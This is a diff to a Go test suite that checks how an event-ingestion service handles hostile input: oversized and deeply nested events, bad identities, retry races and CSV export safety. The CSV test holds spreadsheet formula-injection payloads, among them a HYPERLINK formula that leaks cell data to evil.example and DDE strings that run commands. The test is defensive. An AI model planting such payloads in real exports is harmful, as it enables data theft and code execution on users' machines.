@@ -161,11 +161,12 @@ func errorOf(t *testing.T, raw []byte, status int) string {
 	return e.Error.Message
 }
 
-func inhouse(typ, cust, attrs string) string {
+// inhouse is an in-house event that occurred a minute ago on the stack's clock.
+func (h *hostile) inhouse(typ, cust, attrs string) string {
 	if attrs == "" {
 		attrs = "{}"
 	}
-	return `{"type":"` + typ + `","customer":` + cust + `,"occurred_at":"` + time.Now().UTC().Add(-time.Minute).Format(time.RFC3339) + `","attributes":` + attrs + `}`
+	return `{"type":"` + typ + `","customer":` + cust + `,"occurred_at":"` + h.now().Add(-time.Minute).Format(time.RFC3339) + `","attributes":` + attrs + `}`
 }
 
 // Finding 1: input the pipeline cannot keep as sent is decided at the edge
@@ -181,7 +182,7 @@ func TestHostileUnkeepableInputNever503(t *testing.T) {
 	for i := range 12 {
 		notes = append(notes, fmt.Sprintf(`"note%02d":"%s"`, i, strings.Repeat("n", 25<<10)))
 	}
-	big := inhouse("order.created", `{"id":"big-1","email":"big@example.com"}`, `{`+strings.Join(notes, ",")+`,"order_id":"o-big"}`)
+	big := h.inhouse("order.created", `{"id":"big-1","email":"big@example.com"}`, `{`+strings.Join(notes, ",")+`,"order_id":"o-big"}`)
 	code, raw := h.app("msg_big", big)
 	if code != 202 || len(big) < 262000 {
 		t.Fatalf("%d-byte event: %d %s, want 202", len(big), code, raw)
@@ -198,9 +199,9 @@ func TestHostileUnkeepableInputNever503(t *testing.T) {
 		name, body, message string
 		status              int
 	}{
-		{"nested 5,000 deep", inhouse("a.b", `{"id":"u1"}`, `{"x":`+strings.Repeat("[", 5000)+strings.Repeat("]", 5000)+`}`), "nested deeper than 32 levels", 400},
-		{"10,000-character type", inhouse("a."+strings.Repeat("b", 10000), `{"id":"u1"}`, ""), "over the 128-byte limit", 400},
-		{"1,001 events", "[" + strings.TrimSuffix(strings.Repeat(inhouse("a.b", `{"id":"u1"}`, "")+",", 1001), ",") + "]", "1001 events in one request", 413},
+		{"nested 5,000 deep", h.inhouse("a.b", `{"id":"u1"}`, `{"x":`+strings.Repeat("[", 5000)+strings.Repeat("]", 5000)+`}`), "nested deeper than 32 levels", 400},
+		{"10,000-character type", h.inhouse("a."+strings.Repeat("b", 10000), `{"id":"u1"}`, ""), "over the 128-byte limit", 400},
+		{"1,001 events", "[" + strings.TrimSuffix(strings.Repeat(h.inhouse("a.b", `{"id":"u1"}`, "")+",", 1001), ",") + "]", "1001 events in one request", 413},
 	}
 	for i, c := range cases {
 		msg := fmt.Sprint("msg_bad_", i)
@@ -219,7 +220,7 @@ func TestHostileUnkeepableInputNever503(t *testing.T) {
 	// dimensions), absurdly long but within the string limit: accepted, and
 	// kept without a dead letter (checked at the end).
 	long := strings.Repeat("9", 5000)
-	if code, raw := h.app("msg_long_keys", inhouse("order.created", `{"id":"long-1"}`, `{"order_id":"`+long+`","plan":"`+long+`","ticket_id":"`+long+`"}`)); code != 202 {
+	if code, raw := h.app("msg_long_keys", h.inhouse("order.created", `{"id":"long-1"}`, `{"order_id":"`+long+`","plan":"`+long+`","ticket_id":"`+long+`"}`)); code != 202 {
 		t.Fatalf("long key values: %d %s", code, raw)
 	}
 
@@ -277,7 +278,7 @@ func TestHostileIdentitiesValidatedAtArrival(t *testing.T) {
 		if strings.HasPrefix(field, `"email"`) {
 			cust = fmt.Sprintf(`{%s,"id":"idv-%d"}`, field, i)
 		}
-		code, raw := h.app(msg, inhouse("ticket.created", cust, ""))
+		code, raw := h.app(msg, h.inhouse("ticket.created", cust, ""))
 		if code != 202 {
 			t.Fatalf("%s with another key: %d %s, want 202", name, code, raw)
 		}
@@ -285,7 +286,7 @@ func TestHostileIdentitiesValidatedAtArrival(t *testing.T) {
 		if len(row.Reasons) != 1 || !row.Reasons[0].Kept || !strings.Contains(row.Reasons[0].Reason, "dropped") {
 			t.Fatalf("%s: reasons %+v", name, row.Reasons)
 		}
-		code, raw = h.app(fmt.Sprint("msg_id_alone_", i), inhouse("ticket.created", "{"+field+"}", ""))
+		code, raw = h.app(fmt.Sprint("msg_id_alone_", i), h.inhouse("ticket.created", "{"+field+"}", ""))
 		if code != 400 || !strings.Contains(errorOf(t, raw, 400), "no usable customer identity") {
 			t.Fatalf("%s alone: %d %s, want 400", name, code, raw)
 		}
@@ -351,7 +352,7 @@ func TestHostileCSVExportIsSpreadsheetSafe(t *testing.T) {
 	plans := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, `+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`}
 	for i, p := range plans {
 		attrs, _ := json.Marshal(map[string]any{"survey": "nps", "score": 3, "plan": p})
-		if code, raw := h.app(fmt.Sprint("msg_csv_", i), inhouse(events.TypeSurveyResponded, fmt.Sprintf(`{"id":"csv-%d"}`, i), string(attrs))); code != 202 {
+		if code, raw := h.app(fmt.Sprint("msg_csv_", i), h.inhouse(events.TypeSurveyResponded, fmt.Sprintf(`{"id":"csv-%d"}`, i), string(attrs))); code != 202 {
 			t.Fatalf("%d %s", code, raw)
 		}
 	}
@@ -447,7 +448,7 @@ func TestHostileCursorsRetryAfterAndReadiness(t *testing.T) {
 	}
 	// A retry while the first attempt still works gets 409 and a
 	// Retry-After, then the first attempt's answer once it is done.
-	batch := "[" + strings.TrimSuffix(strings.Repeat(inhouse("order.viewed", `{"id":"busy-1"}`, "")+",", 1000), ",") + "]"
+	batch := "[" + strings.TrimSuffix(strings.Repeat(h.inhouse("order.viewed", `{"id":"busy-1"}`, "")+",", 1000), ",") + "]"
 	first := make(chan int, 1)
 	go func() {
 		code, _, _ := h.post("app", []byte(batch), map[string]string{standardwebhooks.HeaderID: "msg_busy"})
